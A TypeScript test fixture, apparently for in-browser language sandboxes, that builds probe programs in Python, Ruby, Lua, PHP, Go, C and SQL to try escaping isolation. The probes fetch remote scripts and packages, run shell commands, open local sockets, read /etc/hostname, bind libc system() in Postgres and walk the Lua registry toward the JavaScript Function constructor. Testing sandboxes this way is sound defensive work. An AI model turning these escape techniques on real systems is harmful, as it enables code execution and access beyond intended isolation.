/** Where a program tries to get to. */
export interface Goal {
  /** Origin of the server that the page is from, and of one that takes anything from anyone. */
  own: string;
  away: string;
  /** Port of a listener on 127.0.0.1. */
  port: string;
}

/**
 * How programs in a language try to get out. Each says `kept` or `OUT` for every way, count in all,
 * then `all tried`. The first way is a file that an earlier run may have left, and at the end each
 * leaves one.
 */
export interface WaysOut {
  code: (goal: Goal) => string;
  count: number;
  /** Programs that cannot even start, and what is said of them. */
  refused?: [code: string, says: string][];
}

const lines = (...all: string[]) => all.join('\n');

const python: WaysOut = {
  count: 18,
  code: ({ own, away, port }) =>
    lines(
      'import js, os',
      'from pyodide.code import run_js',
      'async def go(what, attempt):',
      '    try: print("OUT", what, await attempt())',
      '    except BaseException as err: print("kept", what, type(err).__name__)',
      'async def left(): return open("left.txt").read()',
      `async def get(): return (await js.fetch("${own}/api/v1/config")).status`,
      `async def away(): return (await js.fetch("${away}/py")).status`,
      `async def xhr():`,
      '    r = js.XMLHttpRequest.new()',
      `    r.open("GET", "${away}/py-xhr", False)`,
      '    r.send()',
      '    return r.status',
      'async def store(): return js.localStorage.length',
      'async def files(): return await js.navigator.storage.getDirectory()',
      'async def page(): return js.parent.document.title',
      `async def navigate(): js.top.location.href = "${away}/py-top"`,
      `async def popup(): return js.open("${away}/py-popup").closed`,
      'async def say(): return js.postMessage("x")',
      `async def code(): return js.eval("importScripts('${away}/py.js')")`,
      `async def runjs(): return (await run_js("fetch('${away}/py-run')")).status`,
      `async def pyfetch():`,
      '    from pyodide.http import pyfetch',
      `    return await (await pyfetch("${away}/pyfetch")).string()`,
      `async def install():`,
      '    import pyodide_js',
      `    return await pyodide_js.loadPackage("${away}/x-1.0-py3-none-any.whl", checkIntegrity=False) or open("/lib/python3.14/site-packages/x")`,
      'async def lib():',
      '    import urllib.request',
      `    return urllib.request.urlopen("${away}/urllib").status`,
      'async def sock():',
      '    import socket',
      `    it = socket.create_connection(("127.0.0.1", ${port}), 2)`,
      '    it.sendall(b"x")',
      '    return it.recv(1)',
      'async def process():',
      '    import subprocess',
      '    return subprocess.run(["id"])',
      'async def host(): return open("/etc/hostname").read()',
      'for f in (left, get, away, xhr, store, files, page, navigate, popup, say, code, runjs, pyfetch, install, lib, sock, process, host):',
      '    await go(f.__name__, f)',
      'open("left.txt", "w").write("x")',
      'print("all tried")',
    ),
};

const ruby: WaysOut = {
  count: 8,
  code: ({ away, port }) =>
    lines(
      'def go(what)',
      '  puts "OUT #{what} #{yield}"',
      'rescue Exception => e',
      '  puts "kept #{what} #{e.class}"',
      'end',
      'require "js"',
      'go("left") { File.read("left.txt") }',
      `go("xhr") { r = JS.global[:XMLHttpRequest].new; r.open("GET", "${away}/rb", false); r.send; r[:status] }`,
      'go("store") { JS.global[:localStorage][:length] }',
      'go("say") { JS.global.postMessage("x") }',
      `go("code") { JS.eval("importScripts('${away}/rb.js'); return 1") }`,
      `go("socket") { require "socket"; TCPSocket.new("127.0.0.1", ${port}) }`,
      'go("shell") { `id` }',
      'go("host") { File.read("/etc/hostname") }',
      `JS.eval("fetch('${away}/rb-fetch').catch(() => 0)")`,
      'File.write("left.txt", "x")',
      'puts "all tried"',
    ),
};

const lua: WaysOut = {
  count: 8,
  code: ({ away }) =>
    lines(
      'local function go(what, way)',
      '  local ok, got = pcall(way)',
      '  print((ok and got and "OUT " or "kept ") .. what)',
      'end',
      'go("left", function() return io.open("left.txt") end)',
      `go("bridge", function() return js.global:fetch("${away}/lua") end)`,
      `go("shell", function() return os.execute("curl ${away}/lua-shell") end)`,
      'go("pipe", function() return io.popen("id"):read("a") end)',
      'go("socket", function() return require("socket") end)',
      'go("library", function() return package.loadlib("/lib/libc.so.6", "system") end)',
      'go("host", function() return io.open("/etc/hostname") end)',
      '-- Whatever the bridge to JavaScript has left lying about, from which its code could be reached.',
      'local seen = {}',
      'local function search(value, depth)',
      '  if seen[value] or depth > 6 then return end',
      '  if type(value) == "userdata" then',
      '    seen[value] = true',
      `    return value.constructor.constructor("return fetch('${away}/lua-bridge')")()`,
      '  elseif type(value) == "function" then',
      '    seen[value] = true',
      '    for i = 1, 20 do',
      '      local name, up = debug.getupvalue(value, i)',
      '      if not name then break end',
      '      local ok, got = pcall(search, up, depth + 1)',
      '      if ok and got then return got end',
      '    end',
      '  elseif type(value) == "table" then',
      '    seen[value] = true',
      '    for k, v in next, value do',
      '      for _, one in ipairs({ k, v }) do',
      '        local ok, got = pcall(search, one, depth + 1)',
      '        if ok and got then return got end',
      '      end',
      '    end',
      '  end',
      'end',
      'go("registry", function() return search(debug.getregistry(), 0) or search(_G, 0) end)',
      'local file = io.open("left.txt", "w")',
      'file:write("x")',
      'file:close()',
      'print("all tried")',
    ),
};

const php: WaysOut = {
  count: 13,
  code: ({ away, port }) =>
    lines(
      '<?php',
      'function go($what, $way) {',
      '  try { $got = @$way(); echo $got ? "OUT" : "kept", " $what\\n"; }',
      '  catch (\\Throwable $e) { echo "kept $what\\n"; }',
      '}',
      `go('left', fn() => file_exists('left.txt'));`,
      `go('http', fn() => file_get_contents('${away}/php'));`,
      `go('socket', fn() => fsockopen('127.0.0.1', ${port}, $code, $text, 1) && false);`,
      `go('shell', fn() => shell_exec('id'));`,
      `go('process', fn() => proc_open('id', [], $pipes));`,
      `go('curl', fn() => curl_exec(curl_init('${away}/php-curl')));`,
      `go('mail', fn() => mail('a@example.com', 'x', 'y'));`,
      `go('host', fn() => file_get_contents('/etc/hostname'));`,
      `go('javascript', fn() => vrzno_eval("fetch('${away}/php-eval').catch(() => 0), 0"));`,
      `go('bridge', fn() => (new Vrzno)->fetch('${away}/php-bridge')->catch(fn() => 0) && false);`,
      `go('storage', fn() => (new Vrzno)->localStorage);`,
      `go('page', fn() => (new Vrzno)->parent->document->title);`,
      `go('say', fn() => vrzno_eval("typeof postMessage === 'function' ? 'yes' : ''"));`,
      `file_put_contents('left.txt', 'x');`,
      `echo "all tried\\n";`,
    ),
};

const go: WaysOut = {
  count: 7,
  code: ({ away, port }) =>
    lines(
      'package main',
      'import ("fmt"; "net"; "net/http"; "os"; "syscall")',
      'func try(what string, way func() error) {',
      '\tdefer func() { if recover() != nil { fmt.Println("kept", what) } }()',
      '\tif err := way(); err != nil { fmt.Println("kept", what) } else { fmt.Println("OUT", what) }',
      '}',
      'func main() {',
      '\ttry("left", func() error { _, err := os.Stat("left.txt"); return err })',
      `\ttry("dial", func() error { _, err := net.Dial("tcp", "127.0.0.1:${port}"); return err })`,
      `\ttry("http", func() error { _, err := http.Get("${away}/go"); return err })`,
      '\ttry("look-up", func() error { _, err := net.LookupHost("example.com"); return err })',
      '\ttry("host", func() error { _, err := os.ReadFile("/etc/hostname"); return err })',
      '\ttry("process", func() error { _, err := os.StartProcess("/bin/id", nil, &os.ProcAttr{}); return err })',
      '\ttry("socket", func() error { _, err := syscall.Socket(2, 1, 0); return err })',
      '\tos.WriteFile("left.txt", []byte("x"), 0o600)',
      '\tfmt.Println("all tried")',
      '}',
    ),
  refused: [
    [
      'package main\nimport "syscall/js"\nfunc main() { js.Global().Call("fetch", "/") }',
      'could not import syscall/js',
    ],
    [
      'package main\n//go:wasmimport env fetch\nfunc fetch()\nfunc main() { fetch() }',
      'WebAssembly.instantiate(): Import #',
    ],
  ],
};

const c: WaysOut = {
  count: 4,
  code: () =>
    lines(
      '#include <dirent.h>',
      '#include <stdio.h>',
      '__attribute__((import_module("wasi_snapshot_preview1"), import_name("sock_accept"))) int accept_on(int, int, void *);',
      'static void said(const char *what, int got) { printf("%s %s\\n", got ? "OUT" : "kept", what); }',
      'int main(void) {',
      '  int fd;',
      '  said("left", fopen("left.txt", "r") != 0);',
      '  said("host", fopen("/etc/hostname", "r") != 0);',
      '  said("above", fopen("../../etc/hostname", "r") != 0);',
      '  said("socket", accept_on(3, 0, &fd) == 0);',
      '  fputs("x", fopen("left.txt", "w"));',
      '  puts("all tried");',
      '}',
    ),
  refused: [
    [
      '__attribute__((import_module("env"), import_name("fetch"))) void get(const char *);\nint main(void) { get("/"); }',
      'WebAssembly.instantiate(): Import #',
    ],
    ['#include <stdlib.h>\nint main(void) { return system("id"); }', 'system'],
  ],
};

const sqlite: WaysOut = {
  count: 0,
  code: () => "CREATE TABLE left_behind (x);\nSELECT 'all tried';",
  refused: [
    ['SELECT * FROM left_behind;', 'no such table'],
    ["SELECT load_extension('/lib/libc.so.6');", 'main.sql:1:'],
    ["SELECT readfile('/etc/hostname');", 'no such function'],
    ["SELECT writefile('/tmp/x', 'x');", 'no such function'],
    ["ATTACH '/etc/hostname' AS host;\nSELECT * FROM host.x;", 'main.sql:'],
    ["ATTACH 'file:///etc/hostname' AS host;", 'unable to open database'],
    ["CREATE VIRTUAL TABLE x USING fsdir('/');", 'no such module'],
  ],
};

const postgres: WaysOut = {
  count: 9,
  code: ({ port }) =>
    lines(
      'DO $try$ DECLARE way text; BEGIN FOREACH way IN ARRAY ARRAY[',
      '  $$SELECT * FROM left_behind$$,',
      `  $$COPY employees FROM '/etc/hostname'$$,`,
      `  $$SELECT pg_read_file('/etc/hostname')$$,`,
      `  $$SELECT lo_import('/etc/hostname')$$,`,
      `  $$LOAD 'libc'$$,`,
      `  $$CREATE FUNCTION shell(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C$$,`,
      `  $$CREATE EXTENSION dblink$$, $$CREATE EXTENSION plpython3u$$,`,
      `  $$CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1 port=${port}' PUBLICATION p$$`,
      '] LOOP BEGIN EXECUTE way; RAISE NOTICE $$OUT %$$, way;',
      'EXCEPTION WHEN OTHERS THEN RAISE NOTICE $$kept %$$, way; END; END LOOP; END $try$;',
      'CREATE TABLE left_behind (x int);',
      "SELECT 'all tried';",
    ),
  refused: [
    ["COPY employees TO PROGRAM 'id';", 'PROGRAM is not possible here'],
    ["COPY employees FROM PROGRAM 'id';", 'PROGRAM is not possible here'],
  ],
};

export const waysOut: Record<string, WaysOut> = {
  Python: python,
  Ruby: ruby,
  Lua: lua,
  PHP: php,
  Go: go,
  C: c,
  'SQL (SQLite)': sqlite,
  'SQL (PostgreSQL)': postgres,
};
